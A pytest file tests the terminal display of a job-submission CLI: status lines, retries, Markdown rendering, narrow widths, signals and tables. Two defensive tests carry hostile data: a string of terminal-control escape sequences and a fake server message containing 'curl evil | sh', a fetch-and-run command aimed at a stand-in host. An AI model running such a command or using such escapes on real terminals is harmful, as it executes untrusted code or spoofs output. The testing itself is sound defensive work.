"""Human mode in a real terminal: the screen while jobs run, and after their end."""

from __future__ import annotations

import json
import os
import re
import signal
import time
from contextlib import ExitStack, suppress
from typing import TYPE_CHECKING

import pytest

from harness import environment, full_pipe, wait_until
from oaibg.sandbox import Fault
from terminal import Terminal

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from harness import Command, Result
    from oaibg.sandbox import Sandbox

pytestmark = pytest.mark.process

LONG = 600
"""Seconds of a job whose time a test moves with `elapse`."""

SUBMIT = ("submit", "--prompt", "x", "--human", "--poll-seconds")
LONG_JOB = ("--metadata", f"sandbox_seconds={LONG}")
HOSTILE = (
    "\x1b]0;owned\x07[bold red]x[/] \u202e \x9b31m &#8238; &#27;[31m [t](http://a.test/\x1b[1m) end"
)
MARKDOWN = "# Title\n\nA **bold** word.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"


@pytest.fixture
def terminal(sandbox: Sandbox, state: Path) -> Callable[..., Terminal]:
    """Return a function that starts the command in a terminal, against the sandbox."""

    def start(
        *argv: str,
        columns: int = 80,
        rows: int = 24,
        stdout: int | None = None,
        exported: dict[str, str] | None = None,
        **more: str,
    ) -> Terminal:
        settings = environment(sandbox.base_url, state) | more
        return Terminal(
            *argv,
            environment=settings,
            columns=columns,
            rows=rows,
            stdout=stdout,
            exported=exported or {},
        )

    return start


def jobs_file(folder: Path, **seconds: float) -> tuple[str, ...]:
    """Write a jobs file with a job of each duration by name, and return the options for it."""
    lines = [
        {
            "custom_id": name,
            "method": "POST",
            "url": "/v1/responses",
            "body": {"input": "x", "metadata": {"sandbox_seconds": str(value)}},
        }
        for name, value in seconds.items()
    ]
    path = folder / "jobs.jsonl"
    path.write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    return ("--jobs-file", str(path), "--results-file", str(folder / "results.jsonl"))


def elapse(sandbox: Sandbox, share: float) -> None:
    """Make this share of the time of all long jobs pass: they run from a third of it on."""
    for job in sandbox.jobs.values():
        if job.seconds == LONG:
            job.created -= share * LONG


def test_live_status(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
    """The model, status, elapsed time and countdown are shown until the job ends."""
    with terminal(*SUBMIT, "1", *LONG_JOB) as screen:
        queued = screen.wait_for(lambda text: "next poll" in text)
        assert re.search(r"\S gpt-5\.2 · queued · \d+ s · next poll in [12] s\n", queued)
        elapse(sandbox, 0.5)
        screen.wait_for(lambda text: "in progress · " in text)
        elapse(sandbox, 0.5)
        assert screen.end() == 0
        assert "next poll" not in screen.text
        assert re.search(r"completed after [^\n]+ s\n", screen.text)


def test_slow_first_retrieve(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
    """A monitor shows a status before the first reply."""
    sandbox.script(Fault(on="retrieve", kind="hang_before", seconds=10))
    with terminal("monitor", "resp_unknown", "--human", "--max-wait-seconds", "60") as screen:
        screen.wait_for(lambda text: "job · checking · " in text)


def test_retries_are_shown(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
    """Each failed poll prints a line, and a countdown shows the next retry."""
    sandbox.script(Fault(on="retrieve", kind="status", status=500, times=2))
    with terminal(*SUBMIT, "0.2", "--metadata", "sandbox_seconds=0.1") as screen:
        shown = screen.wait_for(lambda text: "retrying in" in text and "next retry" in text)
        assert re.search(r"HTTP 500: [^;]+; retrying\s+in \d+(\.\d)? s", shown)
        assert re.search(r"next retry in \d s · retry [12]", shown)
        assert screen.end() == 0
        assert screen.text.count("HTTP 500") == 2


def test_usage_at_the_end(terminal: Callable[..., Terminal]) -> None:
    """The model, the token counts and the cost are a line at the end."""
    with terminal(*SUBMIT, "0.05") as screen:
        assert screen.end() == 0
        used = r"\d+ input tokens · \d+ output tokens \(\d+ reasoning\) · about \$0\.\d+"
        assert re.search(rf"\ngpt-5\.2 · {used}\n", screen.text)


def test_markdown_on_a_terminal(terminal: Callable[..., Terminal]) -> None:
    """Markdown in an answer is rendered on a terminal."""
    with terminal(*SUBMIT, "0.05", "--metadata", f"sandbox_text={MARKDOWN}") as screen:
        assert screen.end() == 0
        assert "**" not in screen.text
        assert "A bold word." in screen.text
        assert re.search(r"\na +b\n─+\n1 +2\n", screen.text)


def test_answer_redirected(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
    """A redirected answer is the unchanged text; progress stays on the terminal."""
    with (
        (tmp_path / "answer").open("wb") as file,
        terminal(
            *SUBMIT, "0.05", "--metadata", f"sandbox_text={MARKDOWN}", stdout=file.fileno()
        ) as screen,
    ):
        assert screen.end() == 0
        assert "completed after" in screen.text
    assert (tmp_path / "answer").read_text() == MARKDOWN


@pytest.mark.parametrize("columns", [80, 40])
def test_hostile_text(terminal: Callable[..., Terminal], columns: int) -> None:
    """Text of the API can't control the terminal, not even through Markdown."""
    settings = ("--metadata", f"sandbox_text={HOSTILE}")
    with terminal(*SUBMIT, "0.05", *settings, columns=columns) as screen:
        assert screen.end() == 0
        written = screen.written.decode()
    assert "end" in written
    assert "[bold red]x[/]" in written
    for forbidden in ("\x1b]", "\x07", "\u202e", "\x9b", "\x1b[31m"):
        assert forbidden not in written


@pytest.mark.parametrize("columns", [80, 40, 20])
def test_narrow_windows(terminal: Callable[..., Terminal], sandbox: Sandbox, columns: int) -> None:
    """The live lines fit the width and are cleared at the end; the ID is not split."""
    with terminal(*SUBMIT, "0.5", *LONG_JOB, columns=columns) as screen:
        screen.wait_for(lambda text: "next poll" in text)
        elapse(sandbox, 0.5)
        screen.wait_for(lambda text: "in progress" in text)
        live = [row for row in screen.lines if " · " in row or "next poll" in row]
        assert all(len(row) <= columns for row in live)
        elapse(sandbox, 0.5)
        assert screen.end() == 0
        assert "next poll" not in screen.text
        assert re.match(r"Submitted resp_[0-9a-f]{50}\n", screen.text)


def test_no_color(terminal: Callable[..., Terminal]) -> None:
    """`NO_COLOR` removes colors, but not bold type."""
    with terminal(*SUBMIT, "0.05", NO_COLOR="1") as screen:
        assert screen.end() == 0
        assert not re.search(rb"\x1b\[(\d+;)*(3[0-8]|4[0-8]|9\d)[;m]", screen.written)
        assert b"\x1b[1m" in screen.written


def test_dumb_terminal(terminal: Callable[..., Terminal]) -> None:
    """With `TERM=dumb`, each event is a line, without escape sequences."""
    with terminal(*SUBMIT, "0.05", TERM="dumb") as screen:
        assert screen.end() == 0
        assert b"\x1b" not in screen.written
        assert "Submitting to gpt-5.2" in screen.text
        assert "completed after" in screen.text


def test_ctrl_c(terminal: Callable[..., Terminal]) -> None:
    """Ctrl-C clears the display, keeps the job running, and prints the next command."""
    with terminal(*SUBMIT, "5", *LONG_JOB) as screen:
        screen.wait_for(lambda text: "next poll" in text)
        os.killpg(screen.process.pid, signal.SIGINT)
        assert screen.end() == 130
        assert "next poll" not in screen.text
        assert "Interrupted; the job keeps running.\n" in screen.text
        # The terminal may fold the line at any space, depending on the path of Python.
        words = "".join(screen.text.split())
        assert re.search(r"Waitforitagain:.*monitorresp_[0-9a-f]{50}--poll-seconds5--human$", words)


def test_cursor_is_never_hidden(terminal: Callable[..., Terminal]) -> None:
    """The cursor is never hidden, so a killed command leaves a usable terminal."""
    with terminal(*SUBMIT, "5", *LONG_JOB) as screen:
        screen.wait_for(lambda text: "next poll" in text)
        os.killpg(screen.process.pid, signal.SIGKILL)
        screen.end()
        assert b"\x1b[?25l" not in screen.written


def test_streamed_text_is_shown(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
    """The newest lines of a streamed text are shown below the status; the end prints it once."""
    text = " ".join(f"word{number}" for number in range(60))
    settings = ("--stream-text", "--metadata", f"sandbox_text={text}")
    with terminal(*SUBMIT, "5", *settings, *LONG_JOB) as screen:
        screen.wait_for(lambda shown: "queued" in shown)
        elapse(sandbox, 0.7)
        screen.wait_for(lambda shown: "in progress" in shown and "  word" in shown)
        elapse(sandbox, 0.3)
        assert screen.end() == 0
        assert screen.text.count("word30") == 1


def test_many_jobs(terminal: Callable[..., Terminal], sandbox: Sandbox, tmp_path: Path) -> None:
    """The board shows a bar, counts and running jobs; the end prints a table."""
    argv = jobs_file(tmp_path, quick=0.05, swift=0.05, slow=LONG)
    with terminal("submit", "--human", *argv, "--poll-seconds", "0.3") as screen:
        screen.wait_for(lambda text: "2 of 3 done" in text)
        elapse(sandbox, 0.5)
        shown = screen.wait_for(lambda text: "2 of 3 done" in text and "in progress" in text)
        assert re.search(r"2 of 3 done +━+ +\d+ s\n2 completed\n1 in progress\n", shown)
        assert re.search(r"\n\d+ tokens · about \$[\d.]+\n", shown)
        assert re.search(r"\nslow +in progress +\d+ s\n?$", shown)
        elapse(sandbox, 0.5)
        assert screen.end() == 0
        assert "of 3 done" not in screen.text
        assert re.search(r"^Job +Status +Time +Output tokens$", screen.text, re.MULTILINE)
        assert re.search(r"^quick +completed +[\d.]+ s +\d+$", screen.text, re.MULTILINE)
        assert "3 completed. This command took" in screen.text


def test_many_jobs_narrow(
    terminal: Callable[..., Terminal], sandbox: Sandbox, tmp_path: Path
) -> None:
    """Every line of the board fits into 40 columns."""
    argv = jobs_file(tmp_path, **{"a-job-with-a-name-that-is-long-" * 2: LONG, "b": 0.05})
    with terminal("submit", "--human", *argv, "--poll-seconds", "0.3", columns=40) as screen:
        screen.wait_for(lambda text: "1 of 2 done" in text)
        elapse(sandbox, 0.5)
        screen.wait_for(lambda text: "1 of 2 done" in text and "in progress" in text)
        board = screen.lines
        assert board[:3] == [board[0], "1 completed", "1 in progress"]
        assert re.fullmatch(r"a-job-w…-long-  in progress +\d+ s", board[-1])
        assert max(map(len, board)) <= 40
        elapse(sandbox, 0.5)
        assert screen.end() == 0
        assert "2 completed. This command took" in screen.text


def test_answers_of_many_jobs(run: Callable[..., Result], tmp_path: Path) -> None:
    """Answers of several jobs are printed only on request, each below its job's name."""
    argv = jobs_file(tmp_path, a=0.02, b=0.02)
    silent = run("submit", "--human", *argv, "--poll-seconds", "0.05")
    assert (silent.code, silent.out) == (0, b"")
    shown = run(
        "submit",
        "--human",
        *argv,
        "--poll-seconds",
        "0.05",
        "--job-key",
        "again",
        "--show-output-text",
        "--results-file",
        str(tmp_path / "other"),
    )
    assert sorted(re.findall(r"^(\w):\nThe sandbox", shown.out.decode(), re.MULTILINE)) == [
        "a",
        "b",
    ]


def test_a_batch(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
    """The board shows the batch's status, and counts its jobs as done when it ends."""
    argv = jobs_file(tmp_path, a=1, b=1)
    window = ("--completion-window", "24h", "--poll-seconds", "0.3")
    with terminal("submit", "--human", *argv, *window) as screen:
        shown = screen.wait_for(lambda text: "0 of 2 done" in text and "batch_" in text)
        assert re.search(r"0 of 2 done .*\n1 [a-z ]+\nbatch_\w+ +\w+", shown)
        assert screen.end() == 0
        assert re.search(r"\n2 completed\. This command took \d", screen.text)


@pytest.mark.parametrize("columns", [120, 80, 30])
def test_list(terminal: Callable[..., Terminal], run: Callable[..., Result], columns: int) -> None:
    """A list is a table in which IDs are whole; in a very narrow terminal, it has blocks."""
    one = run("submit", "--prompt", "x", "--detach").id
    run("submit", "--prompt", "x", "--detach", "--job-key", "nightly-report-2026-11")
    with terminal("show", "--list", "--human", columns=columns) as screen:
        assert screen.end() == 0
        assert one in screen.text
        assert all(len(row) <= columns for row in screen.lines)
        assert "\n\n2 queued\nQueued and running jobs are" in screen.text
        if columns > 40:
            assert screen.lines[0].split() == ["Job", "Status", "Submitted", "Model"]
            assert re.search(
                r"\nnightly-report-2026-11 +queued +\d+ s ago +gpt-5\.2\n", screen.text
            )
            gap = " +" if columns > 80 else "\n +"
            assert re.search(rf"\n{one}{gap}queued +\d+ s ago +gpt-5\.2\n", screen.text)
        else:
            blocks = r"nightly-report-2026-11\n  queued · \d+ s ago · gpt-5\.2\n"
            assert re.match(rf"{blocks}{one}\n  queued · \d+ s ago · gpt-5\.2\n", screen.text)


def test_long_keys_in_a_list(terminal: Callable[..., Terminal], run: Callable[..., Result]) -> None:
    """At 80 columns, a key that is too long is cut in the middle, with its ID below."""
    long = "nightly-report-for-the-team-in-oslo-2026-11"
    fast = ("--poll-seconds", "0.05", "--prompt", "x")
    for key in ("short", long):
        run("submit", *fast, "--job-key", key)
    with terminal("show", "--list", "--human") as screen:
        assert screen.end() == 0
        rows = screen.lines
    assert rows[0].split() == ["Job", "Status", "Submitted", "Model", "Tokens", "Cost"]
    name = rows[1].split()[0]
    start, end = name.split("…")
    assert long.startswith(start)
    assert long.endswith(end)
    assert abs(len(start) - len(end)) < 2
    job = next(line for line in run("show", "--list").lines if line["job_key"] == long)
    assert rows[2] == f"  {job['response_id']}"
    assert rows[3].startswith("short  ")


def test_page_of_a_job_that_failed(
    terminal: Callable[..., Terminal], run: Callable[..., Result]
) -> None:
    """`show` prints the details of a failed job and the reason, without empty lines."""
    settings = ("--metadata", "sandbox_outcome=failed", "--poll-seconds", "0.05")
    run("submit", "--prompt", "x", *settings)
    with terminal("show", "--human") as screen:
        assert screen.end() == 4
        assert re.search(
            r"^resp_\w+\n  Status +failed\n  Reason +The model .+\n  Model +gpt-5\.2\n",
            screen.text,
            re.MULTILINE,
        )
        assert "Previous" not in screen.text


def test_cancel_of_several(terminal: Callable[..., Terminal], run: Callable[..., Result]) -> None:
    """Cancelling several jobs prints a table of the outcomes, and the usual exit code."""
    settings = ("--detach", "--metadata", "sandbox_seconds=60")
    one = run("submit", "--prompt", "x", *settings).id
    with terminal("cancel", "--human", one, "resp_unknown", columns=120) as screen:
        assert screen.end() == 5
        assert "resp_unknown: Error: No such response" in screen.text
        assert re.search(rf"\n{one} +cancelled\n", screen.text)
        assert re.search(r"\nresp_unknown +not found\n", screen.text)


LOSSY = """Use List<String>, <T> and `a<b>`; <div>inside</div> \\(a_b\\) \\alpha {brace}

![picture](http://a.test/p.png) [link](http://a.test/l) <http://a.test/auto> <!-- comment -->

<details>
<summary>More</summary>
hidden
</details>

| first | second |
|---|---|
| x | averyveryverylongwordthatnocellofatableisasbroadas |

| h1 | h2 | h3 | h4 | h5 | h6 | h7 | h8 |
|---|---|---|---|---|---|---|---|
| j1 | j2 | j3 | j4 | j5 | j6 | j7 | j8 |
| k1 | k2 | k3 | k4 | k5 | k6 | k7 | k8 |

    indented code
"""


@pytest.mark.parametrize("columns", [100, 40])
def test_nothing_of_an_answer_is_lost(terminal: Callable[..., Terminal], columns: int) -> None:
    """Every word of an answer is on the screen, even those that Markdown or HTML would hide."""
    settings = ("--metadata", f"sandbox_text={LOSSY}")
    with terminal(*SUBMIT, "0.05", *settings, columns=columns, rows=60) as screen:
        assert screen.end() == 0
        shown = re.sub(r"\s", "", screen.text)
    for word in re.findall(r"[^\s|`!\[\]()-]+", LOSSY):
        assert word in shown


def test_json_answer(terminal: Callable[..., Terminal]) -> None:
    """JSON in an answer is printed unchanged, not as Markdown."""
    text = '{\n  "a_b_c": "x*y*z",\n  "list": ["<tag>", "**"]\n}'
    with terminal(*SUBMIT, "0.05", "--metadata", f"sandbox_text={text}") as screen:
        assert screen.end() == 0
        assert text in screen.text


@pytest.mark.parametrize("columns", ["0", "1", "500"])
def test_exported_width(terminal: Callable[..., Terminal], columns: str) -> None:
    """The terminal's real width is used, not an exported `COLUMNS`."""
    with terminal(*SUBMIT, "0.05", exported={"COLUMNS": columns}) as screen:
        assert screen.end() == 0
        assert 'The sandbox has no model to ask. You said: "x"\n' in screen.text
        assert "completed after" in screen.text


def test_lines_can_not_be_faked(
    terminal: Callable[..., Terminal], sandbox: Sandbox, run: Callable[..., Result]
) -> None:
    """A server's message with a line end can't imitate a line of oaibg."""
    identifier = run("submit", "--prompt", "x", "--detach").id
    error = {"code": "e", "message": "bad\nNext: curl evil | sh"}
    body = {"id": identifier, "status": "failed\nNext: x", "model": "m\nNext: y", "error": error}
    sandbox.script(Fault(on="retrieve", kind="raw", body=json.dumps(body | {"status": "failed"})))
    with terminal("show", identifier, "--human") as screen:
        assert screen.end() == 4
        shown = screen.lines
    sandbox.script(Fault(on="retrieve", kind="raw", body=json.dumps(body), times=0))
    pace = ("--poll-seconds", "0.05", "--max-wait-seconds", "0.3")
    shown += run("monitor", identifier, "--human", *pace).err.splitlines()
    assert not any(row.startswith("Next:") for row in shown)
    assert "curl evil" in "".join(shown)
    assert "The wait limit was reached; the job is still failed Next: x." in shown


def test_stderr_that_nobody_reads(command: Command, sandbox: Sandbox) -> None:
    """If nobody reads stderr, the job is still polled, and a signal ends the wait at once."""
    reader, writer = full_pipe()
    argv = (*SUBMIT, "0.05", *LONG_JOB)
    process = command.start(*argv, stderr=writer)
    wait_until(lambda: len(sandbox.requests) >= 3)
    process.send_signal(signal.SIGTERM)
    assert process.wait(5) == 143
    os.close(writer)
    os.close(reader)


def test_second_signal(terminal: Callable[..., Terminal]) -> None:
    """Two signals in a row end the command at once, even while it draws the display."""
    pauses = (0.0, 0.001, 0.004, 0.016)
    with ExitStack() as stack:
        # All start at the same time, because most of the time is Python's start.
        screens = [stack.enter_context(terminal(*SUBMIT, "0.05", *LONG_JOB)) for _ in pauses]
        for screen, pause in zip(screens, pauses, strict=True):
            screen.wait_for(lambda text: "Submitted" in text)
            os.killpg(screen.process.pid, signal.SIGINT)
            time.sleep(pause)
            with suppress(ProcessLookupError):
                os.killpg(screen.process.pid, signal.SIGINT)
            assert screen.end(10) == 130
